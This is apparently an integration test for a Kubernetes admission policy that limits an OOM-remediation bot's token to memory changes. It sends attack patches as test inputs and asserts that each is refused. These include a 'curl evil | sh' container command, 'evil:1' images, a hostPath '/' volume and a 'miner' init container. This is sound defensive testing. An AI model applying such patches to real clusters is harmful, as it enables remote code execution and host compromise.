// manifests/admission-policy.yaml on a real kube-apiserver, with a real TokenRequest token of the
// bot's ServiceAccount: what RBAC grants (patch any field of any Deployment) is narrowed by the
// apiserver to the memory fix. A stolen token cannot change an image, a command, a volume or the
// replicas, nor create an autoscaler for another workload or a VPA that evicts; the bot's own
// memory patch still passes, and people (the admin) are not affected. An update of a VPA or HPA by the
// bot may change only a container's memory bounds or the HPA's memory utilization target.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import {
  AppsV1Api,
  AutoscalingV2Api,
  BatchV1Api,
  CustomObjectsApi,
  type KubeConfig,
  type KubernetesObject,
  KubernetesObjectApi,
  PatchStrategy,
  setHeaderOptions,
  type V1Deployment,
} from '@kubernetes/client-node';
import { parseAllDocuments } from 'yaml';
import { hpaTargetOps } from '../../src/remediation/hpa-target.ts';
import { memoryPatch } from '../../src/remediation/patch.ts';
import { vpaPolicyPatch, withBounds } from '../../src/remediation/vpa-bounds.ts';
import { type KubeStack, kubeConfigWithToken, requestServiceAccountToken, startKube } from '../stack/kube.ts';
import { loadClusterYaml } from '../stack/load-scenario.ts';

const MANIFESTS = new URL('../../manifests/', import.meta.url);
const VPA_CRD = new URL('crds/vpa-crd.yaml', MANIFESTS);

const WORKLOADS = `
apiVersion: v1
kind: Namespace
metadata: {name: shop}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: cart, namespace: shop, labels: {app: cart}, annotations: {team: payments}}
spec:
  replicas: 2
  selector: {matchLabels: {app: cart}}
  template:
    metadata: {labels: {app: cart}}
    spec:
      volumes: [{name: tmp, emptyDir: {}}]
      containers:
        - name: cart
          image: cart:1
          command: [/app/cart]
          volumeMounts: [{name: tmp, mountPath: /tmp}]
          resources: {limits: {memory: 256Mi}, requests: {memory: 128Mi}}
        - name: proxy
          image: envoy:1
          resources: {limits: {memory: 64Mi}}
---
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: ledger, namespace: shop}
spec:
  replicas: 1
  serviceName: ledger
  selector: {matchLabels: {app: ledger}}
  template:
    metadata: {labels: {app: ledger}}
    spec:
      containers:
        - name: ledger
          image: ledger:1
          resources: {limits: {memory: 512Mi}}
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: nightly, namespace: shop}
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      backoffLimit: 2
      template:
        spec:
          restartPolicy: Never
          initContainers:
            - {name: fetch, image: fetch:1, resources: {limits: {memory: 64Mi}}}
            - {name: log-shipper, image: shipper:1, restartPolicy: Always, resources: {limits: {memory: 32Mi}}}
          containers:
            - {name: report, image: report:1, resources: {limits: {memory: 256Mi}}}
---
apiVersion: apps/v1
kind: ReplicaSet
metadata:
  name: cart-owned
  namespace: shop
  ownerReferences: [{apiVersion: apps/v1, kind: Deployment, name: cart, uid: 00000000-0000-0000-0000-000000000001, controller: true}]
spec:
  replicas: 0
  selector: {matchLabels: {app: cart-owned}}
  template:
    metadata: {labels: {app: cart-owned}}
    spec:
      containers: [{name: cart, image: cart:1, resources: {limits: {memory: 256Mi}}}]
`;

function docs(text: string): KubernetesObject[] {
  return parseAllDocuments(text)
    .map((d) => d.toJS() as KubernetesObject | null)
    .filter((o): o is KubernetesObject => o !== null);
}

async function serverSideApply(kc: KubeConfig, text: string): Promise<void> {
  const api = KubernetesObjectApi.makeApiClient(kc);
  for (const obj of docs(text))
    await api.patch(obj, undefined, undefined, 'oom-bot-tests', true, PatchStrategy.ServerSideApply);
}

type Outcome = { status: number; message: string };
/** The HTTP status of a call and the apiserver's message (200 when it succeeded). */
async function attempt(call: Promise<unknown>): Promise<Outcome> {
  try {
    await call;
    return { status: 200, message: '' };
  } catch (error) {
    const e = error as { code?: unknown; body?: unknown };
    if (typeof e.code !== 'number') throw error;
    let message = String(e.body ?? '');
    try {
      message = JSON.parse(message).message ?? message;
    } catch {}
    return { status: e.code, message };
  }
}

const strategic = setHeaderOptions('Content-Type', PatchStrategy.StrategicMergePatch);
const merge = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
const jsonPatch = setHeaderOptions('Content-Type', PatchStrategy.JsonPatch);

// biome-ignore lint/suspicious/noExplicitAny: VPA objects are open-ended JSON
type Json = any;

describe('manifests/admission-policy.yaml: the apiserver holds the bot to the memory fix', function () {
  this.timeout(120_000);
  let kube: KubeStack | undefined;
  let admin: KubeConfig;
  let bot: KubeConfig;
  const patchAs = (kc: KubeConfig, kind: 'Deployment' | 'StatefulSet', name: string, body: object) => {
    const apps = kc.makeApiClient(AppsV1Api);
    const args = { name, namespace: 'shop', body, fieldManager: 'oom-bot' };
    return kind === 'Deployment'
      ? apps.patchNamespacedDeployment(args, strategic)
      : apps.patchNamespacedStatefulSet(args, strategic);
  };
  const patchCronJob = (kc: KubeConfig, body: object) =>
    kc
      .makeApiClient(BatchV1Api)
      .patchNamespacedCronJob(
        { name: 'nightly', namespace: 'shop', body, fieldManager: 'oom-bot' },
        strategic,
      );
  const readNightly = () =>
    admin.makeApiClient(BatchV1Api).readNamespacedCronJob({ name: 'nightly', namespace: 'shop' });
  const readCart = (): Promise<V1Deployment> =>
    admin.makeApiClient(AppsV1Api).readNamespacedDeployment({ name: 'cart', namespace: 'shop' });

  before(async function () {
    this.timeout(30 * 60 * 1000); // the first run builds kube-apiserver and etcd
    kube = await startKube();
    admin = kube.kubeConfig;
    await serverSideApply(admin, await readFile(VPA_CRD, 'utf8'));
    await serverSideApply(admin, await readFile(new URL('rbac.yaml', MANIFESTS), 'utf8'));
    await serverSideApply(admin, await readFile(new URL('admission-policy.yaml', MANIFESTS), 'utf8'));
    await loadClusterYaml(admin, WORKLOADS);
    bot = kubeConfigWithToken(
      kube.server,
      await requestServiceAccountToken(admin, 'oom-bot', 'oom-bot', 600),
    );
    // the apiserver loads new policies asynchronously: wait until a forbidden dry run is refused
    const deadline = Date.now() + 60_000;
    const probe = { spec: { template: { spec: { containers: [{ name: 'cart', image: 'probe:1' }] } } } };
    for (;;) {
      const apps = bot.makeApiClient(AppsV1Api);
      const answer = await attempt(
        apps.patchNamespacedDeployment(
          { name: 'cart', namespace: 'shop', body: probe, dryRun: 'All', fieldManager: 'oom-bot' },
          strategic,
        ),
      );
      if (answer.status === 403 && /ValidatingAdmissionPolicy/.test(answer.message)) break;
      assert.ok(
        Date.now() < deadline,
        `the policy never took effect (last: ${answer.status} ${answer.message})`,
      );
      await new Promise((r) => setTimeout(r, 250));
    }
  });

  after(async function () {
    const failed = this.test?.parent?.tests.some((t) => t.state === 'failed') ?? false;
    await kube?.stop({ keepLogs: failed || undefined });
  });

  it('refuses an image change, a command change, a new volume and a replica change, and stores none of them', async () => {
    const before = await readCart();
    const container = (patch: object) => ({
      spec: { template: { spec: { containers: [{ name: 'cart', ...patch }] } } },
    });
    const attacks: Array<[string, 'Deployment' | 'StatefulSet', string, object, RegExp]> = [
      ['an image change', 'Deployment', 'cart', container({ image: 'evil:1' }), /image, command/],
      [
        'a command change',
        'Deployment',
        'cart',
        container({ command: ['sh', '-c', 'curl evil | sh'] }),
        /image, command/,
      ],
      [
        'a new volume',
        'Deployment',
        'cart',
        { spec: { template: { spec: { volumes: [{ name: 'host', hostPath: { path: '/' } }] } } } },
        /volumes/,
      ],
      ['a replica change', 'Deployment', 'cart', { spec: { replicas: 0 } }, /replicas/],
      [
        'an image change hidden in a memory patch',
        'Deployment',
        'cart',
        container({ image: 'evil:1', resources: { limits: { memory: '1Gi' } } }),
        /image, command/,
      ],
      [
        'a sidecar image change',
        'Deployment',
        'cart',
        { spec: { template: { spec: { containers: [{ name: 'proxy', image: 'evil:1' }] } } } },
        /image/,
      ],
      ['a label change', 'Deployment', 'cart', { metadata: { labels: { app: 'other' } } }, /labels/],
      [
        'a foreign annotation',
        'Deployment',
        'cart',
        { metadata: { annotations: { team: 'attacker' } } },
        /annotations/,
      ],
      [
        'a StatefulSet image change',
        'StatefulSet',
        'ledger',
        { spec: { template: { spec: { containers: [{ name: 'ledger', image: 'evil:1' }] } } } },
        /image/,
      ],
    ];
    for (const [what, kind, name, body, message] of attacks) {
      const answer = await attempt(patchAs(bot, kind, name, body));
      assert.equal(answer.status, 403, `${what}: ${answer.status} ${answer.message}`);
      assert.match(answer.message, /oom-bot-memory-only/, what);
      assert.match(answer.message, message, what);
    }
    const after = await readCart();
    assert.equal(after.metadata?.resourceVersion, before.metadata?.resourceVersion, 'the Deployment changed');
    assert.equal(after.spec?.template.spec?.containers[0]?.image, 'cart:1');
    assert.equal(after.spec?.replicas, 2);
  });

  it("passes the bot's own memory patch (one container's resources and its oom-bot/ annotations)", async () => {
    const before = await readCart();
    const body = memoryPatch(
      'cart',
      { limit: '384Mi', request: '192Mi' },
      {
        resourceVersion: before.metadata?.resourceVersion,
        annotations: {
          'oom-bot/change-id': 'c-1',
          'oom-bot/approved-by': 'U123',
          'oom-bot/new-memory': '384Mi',
        },
      },
    );
    const answer = await attempt(patchAs(bot, 'Deployment', 'cart', body));
    assert.equal(answer.status, 200, answer.message);
    const after = await readCart();
    const [cart, proxy] = after.spec?.template.spec?.containers ?? [];
    assert.equal(cart?.resources?.limits?.memory, '384Mi');
    assert.equal(cart?.image, 'cart:1');
    assert.equal(proxy?.resources?.limits?.memory, '64Mi');
    assert.equal(after.metadata?.annotations?.['oom-bot/change-id'], 'c-1');
    assert.equal(after.metadata?.annotations?.team, 'payments');
    const ledger = await attempt(
      patchAs(
        bot,
        'StatefulSet',
        'ledger',
        memoryPatch('ledger', { limit: '768Mi' }, { annotations: { 'oom-bot/action': 'raise' } }),
      ),
    );
    assert.equal(ledger.status, 200, ledger.message);
  });

  it('leaves people alone: the admin may still change the image', async () => {
    const answer = await attempt(
      patchAs(admin, 'Deployment', 'cart', {
        spec: { template: { spec: { containers: [{ name: 'cart', image: 'cart:2' }] } } },
      }),
    );
    assert.equal(answer.status, 200, answer.message);
  });

  it('lets the bot create an HPA or VPA only for the workload of its own name, and a VPA only in Off or Initial', async () => {
    const hpas = bot.makeApiClient(AutoscalingV2Api);
    const hpa = (name: string, target: string) =>
      hpas.createNamespacedHorizontalPodAutoscaler({
        namespace: 'shop',
        body: {
          metadata: { name },
          spec: {
            scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: target },
            minReplicas: 1,
            maxReplicas: 3,
          },
        },
      });
    const custom = bot.makeApiClient(CustomObjectsApi);
    const vpa = (name: string, target: string, updateMode?: string) =>
      custom.createNamespacedCustomObject({
        group: 'autoscaling.k8s.io',
        version: 'v1',
        namespace: 'shop',
        plural: 'verticalpodautoscalers',
        body: {
          apiVersion: 'autoscaling.k8s.io/v1',
          kind: 'VerticalPodAutoscaler',
          metadata: { name },
          spec: {
            targetRef: { apiVersion: 'apps/v1', kind: 'StatefulSet', name: target },
            ...(updateMode ? { updatePolicy: { updateMode } } : {}),
          },
        },
      });
    const refused: Array<[string, () => Promise<unknown>, RegExp]> = [
      ['an HPA named cart that scales ledger', () => hpa('cart', 'ledger'), /own name/],
      ['a VPA named ledger that targets cart', () => vpa('ledger', 'cart', 'Off'), /own name/],
      ['a VPA in Auto mode', () => vpa('ledger', 'ledger', 'Auto'), /Off or Initial/],
      ['a VPA in Recreate mode', () => vpa('ledger', 'ledger', 'Recreate'), /Off or Initial/],
      ['a VPA without an update mode (Auto by default)', () => vpa('ledger', 'ledger'), /Off or Initial/],
    ];
    for (const [what, call, message] of refused) {
      const answer = await attempt(call());
      assert.equal(answer.status, 403, `${what}: ${answer.status} ${answer.message}`);
      assert.match(answer.message, message, what);
    }
    assert.equal((await attempt(hpa('cart', 'cart'))).status, 200);
    const off = await attempt(vpa('ledger', 'ledger', 'Off'));
    assert.equal(off.status, 200, off.message);
  });

  it('holds a CronJob to the memory of its jobTemplate: no image, schedule, init container or Job spec change', async () => {
    const before = await readNightly();
    const podSpec = (spec: object) => ({ spec: { jobTemplate: { spec: { template: { spec } } } } });
    const attacks: Array<[string, object, RegExp]> = [
      ['an image change', podSpec({ containers: [{ name: 'report', image: 'evil:1' }] }), /image, command/],
      ['a schedule change', { spec: { schedule: '* * * * *' } }, /schedule/],
      ['a Job spec change', { spec: { jobTemplate: { spec: { backoffLimit: 9 } } } }, /schedule/],
      [
        'an init container image change',
        podSpec({ initContainers: [{ name: 'fetch', image: 'evil:1' }] }),
        /init containers and sidecars/,
      ],
      [
        'a new init container',
        podSpec({ initContainers: [{ name: 'miner', image: 'evil:1' }] }),
        /none is added or removed/,
      ],
      [
        "a sidecar's restart policy",
        podSpec({ initContainers: [{ name: 'log-shipper', restartPolicy: null }] }),
        /restart policy/,
      ],
      ['a new volume', podSpec({ volumes: [{ name: 'host', hostPath: { path: '/' } }] }), /volumes/],
    ];
    for (const [what, body, message] of attacks) {
      const answer = await attempt(patchCronJob(bot, body));
      assert.equal(answer.status, 403, `${what}: ${answer.status} ${answer.message}`);
      assert.match(answer.message, /oom-bot-memory-only/, what);
      assert.match(answer.message, message, what);
    }
    const after = await readNightly();
    assert.equal(after.metadata?.resourceVersion, before.metadata?.resourceVersion, 'the CronJob changed');
  });

  it("passes the bot's memory patch of a CronJob's container and of an init container, nothing else moving", async () => {
    const before = await readNightly();
    const report = memoryPatch(
      'report',
      { limit: '512Mi' },
      {
        kind: 'CronJob',
        resourceVersion: before.metadata?.resourceVersion,
        annotations: { 'oom-bot/change-id': 'c-2' },
      },
    );
    const first = await attempt(patchCronJob(bot, report));
    assert.equal(first.status, 200, first.message);
    const fetch = memoryPatch('fetch', { limit: '128Mi' }, { kind: 'CronJob', list: 'initContainers' });
    const second = await attempt(patchCronJob(bot, fetch));
    assert.equal(second.status, 200, second.message);
    const pod = (await readNightly()).spec?.jobTemplate.spec?.template.spec;
    assert.deepEqual(
      pod?.containers.map((c) => [c.name, c.resources?.limits?.memory]),
      [['report', '512Mi']],
    );
    assert.deepEqual(
      pod?.initContainers?.map((c) => [c.name, c.image, c.resources?.limits?.memory]),
      [
        ['fetch', 'fetch:1', '128Mi'],
        ['log-shipper', 'shipper:1', '32Mi'],
      ],
    );
  });

  it("refuses a memory patch of a Deployment's ReplicaSet: that goes through its owner", async () => {
    const body = memoryPatch('cart', { limit: '1Gi' });
    const answer = await attempt(
      bot
        .makeApiClient(AppsV1Api)
        .patchNamespacedReplicaSet(
          { name: 'cart-owned', namespace: 'shop', body, fieldManager: 'oom-bot' },
          strategic,
        ),
    );
    assert.equal(answer.status, 403, answer.message);
    assert.match(answer.message, /only when no controller owns it/);
  });
  it("holds the bot's update of a VPA to a container's memory bounds, and of an HPA to its memory target", async () => {
    const vpaArgs = {
      group: 'autoscaling.k8s.io',
      version: 'v1',
      namespace: 'shop',
      plural: 'verticalpodautoscalers',
    };
    await admin.makeApiClient(CustomObjectsApi).createNamespacedCustomObject({
      ...vpaArgs,
      body: {
        apiVersion: 'autoscaling.k8s.io/v1',
        kind: 'VerticalPodAutoscaler',
        metadata: { name: 'cart-vpa' },
        spec: {
          targetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'cart' },
          updatePolicy: { updateMode: 'Auto' },
          resourcePolicy: {
            containerPolicies: [
              { containerName: '*', controlledValues: 'RequestsAndLimits', minAllowed: { cpu: '100m' } },
              { containerName: 'proxy', mode: 'Off' },
            ],
          },
        },
      },
    });
    await admin.makeApiClient(AutoscalingV2Api).createNamespacedHorizontalPodAutoscaler({
      namespace: 'shop',
      body: {
        metadata: { name: 'cart-mem' },
        spec: {
          scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'cart' },
          minReplicas: 2,
          maxReplicas: 6,
          metrics: [
            {
              type: 'Resource',
              resource: { name: 'cpu', target: { type: 'Utilization', averageUtilization: 70 } },
            },
            {
              type: 'Resource',
              resource: { name: 'memory', target: { type: 'Utilization', averageUtilization: 80 } },
            },
          ],
        },
      },
    });
    const readVpa = async (): Promise<Json> =>
      admin.makeApiClient(CustomObjectsApi).getNamespacedCustomObject({ ...vpaArgs, name: 'cart-vpa' });
    const patchVpa = (body: object) =>
      bot
        .makeApiClient(CustomObjectsApi)
        .patchNamespacedCustomObject({ ...vpaArgs, name: 'cart-vpa', body, fieldManager: 'oom-bot' }, merge);
    const policiesWith = (change: (list: Json[]) => Json[]) => async () => {
      const list = structuredClone((await readVpa()).spec.resourcePolicy.containerPolicies);
      return { spec: { resourcePolicy: { containerPolicies: change(list) } } };
    };
    const refusedVpa: Array<[string, () => Promise<object>, RegExp]> = [
      [
        'an update mode change',
        async () => ({ spec: { updatePolicy: { updateMode: 'Recreate' } } }),
        /memory bounds or memory target/,
      ],
      [
        'a new target',
        async () => ({ spec: { targetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'ledger' } } }),
        /memory bounds or memory target/,
      ],
      [
        'a cpu bound',
        policiesWith((l) => [{ ...l[0], minAllowed: { cpu: '2' } }, l[1]]),
        /memory minAllowed/,
      ],
      [
        'an entry that turns the VPA off for cart',
        policiesWith((l) => [...l, { containerName: 'cart', mode: 'Off' }]),
        /memory minAllowed/,
      ],
      ['a removed entry', policiesWith((l) => [l[0]]), /memory minAllowed/],
      ['a label', async () => ({ metadata: { labels: { team: 'evil' } } }), /labels or owners/],
    ];
    for (const [what, body, message] of refusedVpa) {
      const answer = await attempt(patchVpa(await body()));
      assert.equal(answer.status, 403, `${what}: ${answer.status} ${answer.message}`);
      assert.match(answer.message, message, what);
    }
    // the bot's own change: cart's entry, copied from *, with a memory floor and ceiling, audited
    const current = await readVpa();
    const next = withBounds(current.spec.resourcePolicy.containerPolicies, 'cart', {
      minAllowed: '256Mi',
      maxAllowed: '1Gi',
    });
    const own = await attempt(
      patchVpa(vpaPolicyPatch(next, current.metadata.resourceVersion, { 'oom-bot/change-id': 'c-2' })),
    );
    assert.equal(own.status, 200, own.message);
    assert.deepEqual((await readVpa()).spec.resourcePolicy.containerPolicies.at(-1), {
      containerName: 'cart',
      controlledValues: 'RequestsAndLimits',
      minAllowed: { cpu: '100m', memory: '256Mi' },
      maxAllowed: { memory: '1Gi' },
    });
    // and its rollback: the entry goes again
    const back = await readVpa();
    const restored = await attempt(
      patchVpa(
        vpaPolicyPatch(
          back.spec.resourcePolicy.containerPolicies.slice(0, 2),
          back.metadata.resourceVersion,
          {},
        ),
      ),
    );
    assert.equal(restored.status, 200, restored.message);

    const hpas = bot.makeApiClient(AutoscalingV2Api);
    const patchHpa = (ops: object[]) =>
      hpas.patchNamespacedHorizontalPodAutoscaler(
        { name: 'cart-mem', namespace: 'shop', body: ops, fieldManager: 'oom-bot' },
        jsonPatch,
      );
    const refusedHpa: Array<[string, object[], RegExp]> = [
      [
        'a replica ceiling',
        [{ op: 'replace', path: '/spec/maxReplicas', value: 60 }],
        /memory bounds or memory target/,
      ],
      [
        'the CPU target',
        [{ op: 'replace', path: '/spec/metrics/0/resource/target/averageUtilization', value: 5 }],
        /averageUtilization of an HPA's memory/,
      ],
      [
        'a memory target by value',
        [
          {
            op: 'replace',
            path: '/spec/metrics/1/resource/target',
            value: { type: 'AverageValue', averageValue: '1Gi' },
          },
        ],
        /averageUtilization of an HPA's memory/,
      ],
    ];
    for (const [what, ops, message] of refusedHpa) {
      const answer = await attempt(patchHpa(ops));
      assert.equal(answer.status, 403, `${what}: ${answer.status} ${answer.message}`);
      assert.match(answer.message, message, what);
    }
    const moved = await attempt(patchHpa(hpaTargetOps(1, 80, 40)));
    assert.equal(moved.status, 200, moved.message);
  });
});
